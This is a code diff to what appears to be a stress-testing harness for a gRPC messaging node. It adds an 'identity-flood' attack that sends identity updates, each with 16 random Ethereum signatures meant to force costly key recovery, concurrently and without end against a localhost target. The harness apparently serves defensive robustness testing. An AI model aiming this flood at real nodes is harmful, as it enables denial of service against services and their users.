@@ -10,7 +10,7 @@ import net from "node:net";
 import { setTimeout as sleep } from "node:timers/promises";
 import { gzipSync } from "node:zlib";
 import { create, toBinary } from "@bufbuild/protobuf";
-import { mlsApi } from "@parley/proto";
+import { associations, identityApi, mlsApi } from "@parley/proto";
 
 export interface Target {
   readonly port: number;
@@ -22,6 +22,7 @@ export interface Target {
 
 const HOST = "127.0.0.1";
 const SERVICE = "/xmtp.mls.api.v1.MlsApi";
+const IDENTITY_SERVICE = "/xmtp.identity.api.v1.IdentityApi";
 
 function connectFrom(target: Target, address: string, settings: http2.Settings = {}): http2.ClientHttp2Session {
   const session = http2.connect(`http://${HOST}:${target.port}`, {
@@ -41,12 +42,12 @@ function frame(body: Uint8Array, compressed = false): Buffer {
 }
 
 /** One unary call; resolves when the answer ended, however it ended. */
-function unary(session: http2.ClientHttp2Session, method: string, body: Buffer, headers: http2.OutgoingHttpHeaders = {}): Promise<void> {
+function unary(session: http2.ClientHttp2Session, method: string, body: Buffer, headers: http2.OutgoingHttpHeaders = {}, service = SERVICE): Promise<void> {
   return new Promise((resolve) => {
     if (session.closed || session.destroyed) return resolve();
     let stream: http2.ClientHttp2Stream;
     try {
-      stream = session.request({ ":method": "POST", ":path": `${SERVICE}/${method}`, "content-type": "application/grpc", te: "trailers", ...headers });
+      stream = session.request({ ":method": "POST", ":path": `${service}/${method}`, "content-type": "application/grpc", te: "trailers", ...headers });
     } catch {
       return resolve();
     }
@@ -97,6 +98,29 @@ function sendRequest(groupId: Uint8Array, bytes: number): Buffer {
 
 function subscribeRequest(groupId: Uint8Array): Buffer {
   return frame(toBinary(mlsApi.SubscribeGroupMessagesRequestSchema, create(mlsApi.SubscribeGroupMessagesRequestSchema, { filters: [{ groupId, idCursor: 0n }] })));
+}
+
+/**
+ * The most signature work one identity update may ask for: as many
+ * distinct Ethereum signatures as an update may carry, each of which the
+ * node must recover a public key from before any rule can refuse it.
+ */
+function heavyIdentityUpdate(signatures: number): Buffer {
+  const update = create(associations.IdentityUpdateSchema, {
+    inboxId: randomBytes(32).toString("hex"),
+    clientTimestampNs: BigInt(Date.now()) * 1_000_000n,
+    actions: Array.from({ length: signatures }, () => ({
+      kind: {
+        case: "revoke" as const,
+        value: {
+          memberToRevoke: { kind: { case: "ethereumAddress" as const, value: `0x${randomBytes(20).toString("hex")}` } },
+          // r and s random, v a valid recovery id: recovery runs to its end.
+          recoveryIdentifierSignature: { signature: { case: "erc191" as const, value: { bytes: Buffer.concat([randomBytes(64), Buffer.from([27])]) } } },
+        },
+      },
+    })),
+  });
+  return frame(toBinary(identityApi.PublishIdentityUpdateRequestSchema, create(identityApi.PublishIdentityUpdateRequestSchema, { identityUpdate: update })));
 }
 
 /** Runs `worker` `concurrency` times in parallel, each in a loop, for ever. */
@@ -243,6 +267,14 @@ export const attacks: Record<string, { readonly what: string; readonly run: (tar
       for (let i = 0; i < 100; i += 1) await unary(session(), "SendGroupMessages", sendRequest(topic, 256 * 1024));
       const query = frame(toBinary(mlsApi.QueryGroupMessagesRequestSchema, create(mlsApi.QueryGroupMessagesRequestSchema, { groupId: topic, pagingInfo: { limit: 100 } })));
       return forever(4 * target.addresses.length, () => unary(session(), "QueryGroupMessages", query));
+    },
+  },
+
+  "identity-flood": {
+    what: "identity updates carrying 16 distinct Ethereum signatures each (the cap), 4 at a time per address",
+    run: (target) => {
+      const session = sessionPool(target);
+      return forever(4 * target.addresses.length, () => unary(session(), "PublishIdentityUpdate", heavyIdentityUpdate(16), {}, IDENTITY_SERVICE));
     },
   },
 
